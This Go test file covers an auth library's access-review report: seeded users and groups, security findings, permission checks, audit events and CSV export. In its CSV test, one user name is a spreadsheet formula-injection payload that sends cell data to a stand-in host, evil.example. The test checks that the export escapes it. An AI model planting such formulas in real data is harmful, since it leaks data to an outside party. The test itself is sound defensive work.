package auth_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/usher-go/usher/audit"
	"github.com/usher-go/usher/auth"
	"github.com/usher-go/usher/group"
	"github.com/usher-go/usher/internal/oidctest"
	"github.com/usher-go/usher/user"
)

// org is a seeded organisation for the access review: groups, accounts
// with every kind of factor, and one of each finding.
type org struct {
	*ssoEnv
	ops, editors group.ID
	ids          map[string]user.ID // by email
}

const idleAgo = 100 * 24 * time.Hour

// newOrg seeds, on a Manager with passkeys and single sign-on on:
//
//   - admin@example.com, Admins ("*"), no second factor;
//   - ivan@example.com, Users, who last logged in 100 days ago;
//   - olga@example.com and oscar@example.com in Ops, which requires a
//     second factor: Olga has TOTP, Oscar nothing;
//   - eve@example.com in Editors (users:write), with a passkey;
//   - nora@example.com, Users, never logged in;
//   - dora@example.com, Users, disabled;
//   - alice@example.com, Users, made at her first sign-on at "The IdP",
//     without a password.
func newOrg(t *testing.T) *org {
	t.Helper()
	op := oidctest.New(t, oidctest.GroupsInIDToken())
	op.AddClient("usher", "client-secret", strings.Replace(ssoCallback, "{id}", "idp", 1))
	e := newEnv(t, withPasskeys, func(cfg *auth.Config) { cfg.SSO = auth.SSOConfig{CallbackURL: ssoCallback} })
	// ID tokens carry real times: the clock reaches the real now after the
	// idle login, before the sign-on.
	e.clk.mu.Lock()
	e.clk.t = time.Now().UTC().Add(-idleAgo)
	e.clk.mu.Unlock()
	o := &org{ssoEnv: &ssoEnv{env: e, op: op, admin: e.admin()}, ids: map[string]user.ID{}}
	o.ids[adminEmail] = o.admin.User().ID
	o.member("ivan@example.com", group.UsersID)

	e.clk.Advance(idleAgo)
	o.admin = e.login(adminEmail, adminPassword) // the old session timed out
	ops, err := e.m.CreateGroup(e.ctx, o.admin, group.Group{Name: "Ops", RequireTwoFactor: true,
		Permissions: []group.Permission{"backups:*", group.ProfileManage2FA}})
	if err != nil {
		t.Fatal(err)
	}
	o.ops = ops.ID
	o.editors = e.group(o.admin, "Editors", group.UsersRead, group.UsersWrite, group.ProfileManagePasskeys).ID
	olga := o.member("olga@example.com", o.ops)
	e.enrol(&olga)
	o.member("oscar@example.com", o.ops)
	eve := o.member("eve@example.com", o.editors)
	e.register(&eve, e.device(), "Eve's key")
	nora, err := e.m.CreateUser(e.ctx, o.admin, auth.NewUser{Email: "nora@example.com", Name: "Nora", Password: "nora's long password"})
	if err != nil {
		t.Fatal(err)
	}
	o.ids[nora.Email] = nora.ID
	o.member("dora@example.com", group.UsersID)
	if err := e.m.SetDisabled(e.ctx, o.admin, o.ids["dora@example.com"], true); err != nil {
		t.Fatal(err)
	}
	o.provider(nil)
	op.AddUser(oidctest.User{Subject: "alice-sub", Email: "alice@example.com", EmailVerified: true, Name: "Alice"})
	res, err := o.sso("alice-sub")
	if err != nil {
		t.Fatalf("sign-on: %v", err)
	}
	o.ids["alice@example.com"] = o.auth(res.Session.Token).User().ID
	return o
}

// member creates a user in g, logged in now.
func (o *org) member(email string, g group.ID) *auth.Principal {
	u, p := o.user(o.admin, email, g)
	o.ids[email] = u.ID
	return p
}

func (o *org) review(opts auth.ReviewOptions) *auth.AccessReview {
	o.t.Helper()
	r, err := o.m.AccessReview(o.ctx, o.admin, opts)
	if err != nil {
		o.t.Fatalf("AccessReview: %v", err)
	}
	return r
}

// TestAccessReviewReport checks the review of a seeded organisation:
// every finding, in order, and nothing else; the groups with their
// labelled permissions and members; who holds "*"; each user's factors.
func TestAccessReviewReport(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	r := o.review(auth.ReviewOptions{})

	if r.IdleDays != auth.DefaultIdleDays || !r.Generated.Equal(o.clk.Now().Truncate(time.Microsecond)) {
		t.Errorf("IdleDays %d, Generated %v", r.IdleDays, r.Generated)
	}
	type finding struct {
		kind  auth.FindingKind
		email string
	}
	var got []finding
	for _, f := range r.Findings {
		got = append(got, finding{f.Kind, f.User.Email})
	}
	want := []finding{
		{auth.FindingNoSecondFactor, adminEmail},
		{auth.FindingNoSecondFactor, "oscar@example.com"},
		{auth.FindingNeverLoggedIn, "nora@example.com"},
		{auth.FindingIdle, "ivan@example.com"},
		{auth.FindingDisabled, "dora@example.com"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("findings %+v\nwant %+v", r.Findings, want)
	}
	for i, detail := range []string{"holds *", "the group Ops requires a second factor", "never logged in", "100 days ago", "disabled"} {
		if !strings.Contains(r.Findings[i].Detail, detail) {
			t.Errorf("finding %d detail %q lacks %q", i, r.Findings[i].Detail, detail)
		}
	}
	if len(r.Wildcard) != 1 || r.Wildcard[0].Email != adminEmail {
		t.Errorf("holders of *: %+v", r.Wildcard)
	}
	if r.LastReview != nil {
		t.Errorf("LastReview %+v before any", r.LastReview)
	}
	checkReviewGroups(t, r)
	checkReviewUsers(t, o, r)

	// One more day of idleness is not yet 101.
	if r := o.review(auth.ReviewOptions{IdleDays: 101}); len(r.Findings) != 4 || r.IdleDays != 101 {
		t.Errorf("with 101 idle days: %+v", r.Findings)
	}
}

func checkReviewGroups(t *testing.T, r *auth.AccessReview) {
	t.Helper()
	var names []string
	groups := map[string]auth.ReviewGroup{}
	for _, g := range r.Groups {
		names = append(names, g.Name)
		groups[g.Name] = g
	}
	if want := []string{"Admins", "Editors", "Ops", "Users"}; !reflect.DeepEqual(names, want) {
		t.Fatalf("groups %v, want %v", names, want)
	}
	wantPerms := map[string][]group.Entry{
		"Admins": {{Permission: group.All, Label: "Every permission, present and future", Category: "Everything"}},
		"Ops": {
			{Permission: "backups:*", Label: "Every backups permission", Category: "Backups"},
			{Permission: group.ProfileManage2FA, Label: "Manage own two-factor authentication", Category: "Own profile"},
		},
	}
	for name, want := range wantPerms {
		if got := groups[name].Permissions; !reflect.DeepEqual(got, want) {
			t.Errorf("%s permissions %+v\nwant %+v", name, got, want)
		}
	}
	if !groups["Ops"].RequireTwoFactor || groups["Users"].RequireTwoFactor {
		t.Errorf("RequireTwoFactor: Ops %v, Users %v", groups["Ops"].RequireTwoFactor, groups["Users"].RequireTwoFactor)
	}
	members := func(name string) []string {
		var out []string
		for _, m := range groups[name].Members {
			out = append(out, m.Email)
		}
		return out
	}
	for name, want := range map[string][]string{
		"Admins":  {adminEmail},
		"Editors": {"eve@example.com"},
		"Ops":     {"olga@example.com", "oscar@example.com"},
		"Users":   {"alice@example.com", "dora@example.com", "ivan@example.com", "nora@example.com"},
	} {
		if got := members(name); !reflect.DeepEqual(got, want) {
			t.Errorf("%s members %v, want %v", name, got, want)
		}
	}
}

func checkReviewUsers(t *testing.T, o *org, r *auth.AccessReview) {
	t.Helper()
	type factors struct {
		password, totp bool
		passkeys       int
		sso            string
	}
	want := map[string]factors{
		adminEmail:          {password: true},
		"alice@example.com": {sso: "The IdP"},
		"dora@example.com":  {password: true},
		"eve@example.com":   {password: true, passkeys: 1},
		"ivan@example.com":  {password: true},
		"nora@example.com":  {password: true},
		"olga@example.com":  {password: true, totp: true},
		"oscar@example.com": {password: true},
	}
	if len(r.Users) != len(want) {
		t.Fatalf("%d users, want %d", len(r.Users), len(want))
	}
	for i, u := range r.Users {
		if i > 0 && r.Users[i-1].Email >= u.Email {
			t.Errorf("users not by email: %s before %s", r.Users[i-1].Email, u.Email)
		}
		got := factors{u.Password, u.TOTP, u.Passkeys, strings.Join(u.SSO, ",")}
		if got != want[u.Email] || u.ID != o.ids[u.Email] {
			t.Errorf("%s: factors %+v, ID %s; want %+v, %s", u.Email, got, u.ID, want[u.Email], o.ids[u.Email])
		}
		if u.Disabled != (u.Email == "dora@example.com") || u.LastLoginAt.IsZero() != (u.Email == "nora@example.com") {
			t.Errorf("%s: disabled %v, last login %v", u.Email, u.Disabled, u.LastLoginAt)
		}
	}
	if u := r.Users[0]; u.Email != adminEmail || u.GroupID != group.AdminID || u.GroupName != "Admins" ||
		!reflect.DeepEqual(u.Findings, []auth.FindingKind{auth.FindingNoSecondFactor}) {
		t.Errorf("admin row %+v", u)
	}
}

// The review needs access:review, which "*" covers and a group may hold
// alone; a refusal is audited, and marking is refused the same way.
func TestAccessReviewPermission(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin := e.admin()
	reviewers := e.group(admin, "Reviewers", group.AccessReview)
	_, rita := e.user(admin, "rita@example.com", reviewers.ID)
	_, bob := e.user(admin, "bob@example.com", group.UsersID)
	_, reader := e.user(admin, "rhea@example.com", e.group(admin, "Readers", group.UsersRead, group.GroupsRead, group.AuditRead).ID)

	if r, err := e.m.AccessReview(e.ctx, rita, auth.ReviewOptions{}); err != nil || len(r.Users) != 4 {
		t.Fatalf("reviewer: %v", err)
	}
	for _, p := range []*auth.Principal{bob, reader, nil} {
		if _, err := e.m.AccessReview(e.ctx, p, auth.ReviewOptions{}); !errors.Is(err, auth.ErrForbidden) {
			t.Fatalf("AccessReview by %v: %v, want ErrForbidden", p.User().Email, err)
		}
	}
	ev := e.lastEvent(audit.AuthorizationDeny)
	if ev.Outcome != audit.Denied || ev.Target.Type != audit.TargetAccessReview {
		t.Errorf("refused read recorded as %+v", ev)
	}
	if _, err := e.m.MarkAccessReviewed(e.ctx, bob, auth.ReviewOptions{}, "looked"); !errors.Is(err, auth.ErrForbidden) {
		t.Fatalf("MarkAccessReviewed by Bob: %v", err)
	}
	ev = e.lastEvent(audit.AccessReviewed)
	if ev.Outcome != audit.Denied || ev.Actor.Email != "bob@example.com" || !strings.Contains(ev.Reason, "access:review") {
		t.Errorf("refused mark recorded as %+v", ev)
	}
	// Nobody, and an admin of another Manager (another tenant's database).
	other := e.manager(e.db)
	for name, call := range map[string]func() error{
		"nil mark":       func() error { return second(e.m.MarkAccessReviewed(e.ctx, nil, auth.ReviewOptions{}, "")) },
		"other's review": func() error { return second(other.AccessReview(e.ctx, admin, auth.ReviewOptions{})) },
		"other's mark":   func() error { return second(other.MarkAccessReviewed(e.ctx, admin, auth.ReviewOptions{}, "")) },
	} {
		if err := call(); !errors.Is(err, auth.ErrForbidden) {
			t.Fatalf("%s: %v, want ErrForbidden", name, err)
		}
	}
	if r, err := e.m.AccessReview(e.ctx, rita, auth.ReviewOptions{}); err != nil || r.LastReview != nil {
		t.Fatalf("after a refused mark: %+v, %v", r.LastReview, err)
	}
}

// Marking a review writes access.reviewed with the note and the counts of
// findings, and the report shows it as the last review.
func TestMarkAccessReviewed(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	r, err := o.m.MarkAccessReviewed(o.ctx, o.admin, auth.ReviewOptions{}, "  Q1 review:\tall fine\n")
	if err != nil {
		t.Fatal(err)
	}
	const note = "Q1 review:all fine" // control characters dropped, trimmed
	if lr := r.LastReview; lr == nil || lr.By.Email != adminEmail || lr.Note != note || !lr.At.Equal(r.Generated) {
		t.Fatalf("LastReview %+v", r.LastReview)
	}
	ev := o.lastEvent(audit.AccessReviewed)
	wantDetails := map[string]any{
		audit.DetailNote:  note,
		audit.DetailUsers: float64(8),
		audit.DetailFindings: map[string]any{
			"no_second_factor": float64(2), "never_logged_in": float64(1), "idle": float64(1), "disabled": float64(1),
		},
	}
	if ev.Outcome != audit.Success || ev.Actor.ID != string(o.ids[adminEmail]) || ev.Target.Type != audit.TargetAccessReview ||
		!reflect.DeepEqual(ev.Details, wantDetails) {
		t.Fatalf("event %+v\nwant details %v", ev, wantDetails)
	}
	o.clk.Advance(time.Hour)
	again := o.review(auth.ReviewOptions{})
	if lr := again.LastReview; lr == nil || !lr.At.Equal(ev.Time) || lr.Note != note || lr.By.Email != adminEmail {
		t.Fatalf("LastReview in a later report: %+v", again.LastReview)
	}

	// Bad input is refused before anything is written.
	before := len(o.events())
	_, err = o.m.MarkAccessReviewed(o.ctx, o.admin, auth.ReviewOptions{}, strings.Repeat("x", auth.MaxReviewNoteBytes+1))
	var fe *auth.FieldError
	if !errors.As(err, &fe) || fe.Field != auth.FieldNote || !errors.Is(err, auth.ErrNoteTooLong) {
		t.Fatalf("long note: %v", err)
	}
	for _, days := range []int{-1, auth.MaxIdleDays + 1} {
		_, err = o.m.MarkAccessReviewed(o.ctx, o.admin, auth.ReviewOptions{IdleDays: days}, "")
		if !errors.As(err, &fe) || fe.Field != auth.FieldIdleDays || !errors.Is(err, auth.ErrInvalidIdleDays) {
			t.Fatalf("IdleDays %d: %v", days, err)
		}
		if _, err := o.m.AccessReview(o.ctx, o.admin, auth.ReviewOptions{IdleDays: days}); !errors.Is(err, auth.ErrInvalidIdleDays) {
			t.Fatalf("AccessReview with IdleDays %d: %v", days, err)
		}
	}
	if n := len(o.events()); n != before {
		t.Fatalf("%d events written by refused input", n-before)
	}
}

// The operator of a command-line tool reviews and marks as "operator".
func TestAccessReviewByOperator(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.admin()
	m, op := e.operator("adminctl:root")
	r, err := m.MarkAccessReviewed(e.ctx, op, auth.ReviewOptions{}, "")
	if err != nil || len(r.Users) != 1 {
		t.Fatalf("MarkAccessReviewed by the operator: %v", err)
	}
	if lr := r.LastReview; lr == nil || lr.By.ID != "operator" || lr.By.Email != "adminctl:root" {
		t.Fatalf("LastReview %+v", r.LastReview)
	}
}

// The CSV has a header and one row a user, with the group's permissions,
// the factors and the findings; a cell a spreadsheet would run as a
// formula starts with an apostrophe.
func TestAccessReviewCSV(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin := e.admin()
	g := e.group(admin, "@Ops", "backups:run", group.ProfileUpdateName)
	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	if _, err := e.m.CreateUser(e.ctx, admin, auth.NewUser{Email: "mal@example.com", Name: formula, Password: "mal's long password", GroupID: g.ID}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.m.CreateUser(e.ctx, admin, auth.NewUser{Email: "minus@example.com", Name: "-2+3", Password: "minus long password"}); err != nil {
		t.Fatal(err)
	}
	r, err := e.m.AccessReview(e.ctx, admin, auth.ReviewOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, buf.String())
	}
	if len(rows) != 4 || !reflect.DeepEqual(rows[0], auth.ReviewCSVHeader()) {
		t.Fatalf("rows %q", rows)
	}
	when := e.clk.Now().UTC().Format(time.RFC3339)
	want := [][]string{
		{adminEmail, "Ada Admin", "enabled", "Admins", "admin", "*", "false", "true", "false", "0", "", "false", when, when, "no_second_factor"},
		{"mal@example.com", "'" + formula, "enabled", "'@Ops", string(g.ID), "backups:run profile:update_name", "false", "true", "false", "0", "", "false", when, "", "never_logged_in"},
		{"minus@example.com", "'-2+3", "enabled", "Users", "users", "profile:*", "false", "true", "false", "0", "", "false", when, "", "never_logged_in"},
	}
	if !reflect.DeepEqual(rows[1:], want) {
		t.Fatalf("rows\n%q\nwant\n%q", rows[1:], want)
	}
}
